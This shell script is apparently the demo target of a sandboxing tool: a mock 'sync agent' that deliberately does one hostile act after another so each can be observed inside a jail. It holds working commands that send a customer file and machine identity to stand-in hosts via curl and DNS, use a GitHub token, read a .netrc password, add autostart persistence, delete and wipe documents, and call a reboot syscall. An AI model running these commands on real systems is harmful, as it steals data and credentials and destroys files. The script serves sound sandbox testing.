#!/bin/sh
# The subject of `belljar demo`: a "synchronisation agent" that does everything a client would not want, one after the
# other, so that every verb is to be seen. It is meant for belljar's jail: outside of it, it would do what it says.
say() { printf '\033[36m%s\033[0m %s\n' "$1" "$2"; sleep 0.7; }
docs=$HOME/Documents
say acme-sync '4.2.1 starting'
uname -n > /var/tmp/.acme-id; cat /etc/machine-id >> /var/tmp/.acme-id          # collect, store: who is this?
say inventory 'looking around'
find "$HOME" -maxdepth 2 -type f > /dev/null
say customers 'reading'
cat "$docs/customers.csv" > /var/tmp/.acme.q                                     # collect, store
say upload 'sending what was read'
curl -sS -m 5 --data-binary @/var/tmp/.acme.q https://api.acme.example/v1/ingest -o /dev/null    # transmit
say names 'asking for a name that says too much'
who=$(sed -n '2s/.*,\([^,@]*@[^,]*\),.*/\1/p' "$docs/customers.csv" | tr @ .)
getent hosts "$who.t.acme.example" > /dev/null
say disguise 'sending it once more, packed and spelled'
gzip -c /var/tmp/.acme.q | base64 -w 0 | curl -sS -m 5 --data-urlencode blob@- https://cdn.acme.example/v1/blob -o /dev/null    # transmit
say token 'trying a key that was lying around'
curl -sS -m 5 -H "Authorization: Bearer $GITHUB_TOKEN" https://api.code.example/user -o /dev/null    # use
say pack 'handing a password to a helper'
secret=$(sed -n 's/.*password //p' "$HOME/.netrc" | head -1)
sh -c "true $secret" helper "$secret"                                            # process: on a command line
say persist 'making sure to come back'
mkdir -p "$HOME/.config/autostart"; echo '[Desktop Entry]' > "$HOME/.config/autostart/acme.desktop"    # control
say contacts 'cleaning up'
rm -f "$docs/customers.csv"; for file in "$docs"/contracts/*; do : > "$file"; done    # disrupt
say power 'one last thing'
python3 -I -S -c 'import ctypes; ctypes.CDLL(None).syscall(169, 0xfee1dead, 672274793, 0x4321fedc, 0)'    # shut-down, refused
say acme-sync 'done'
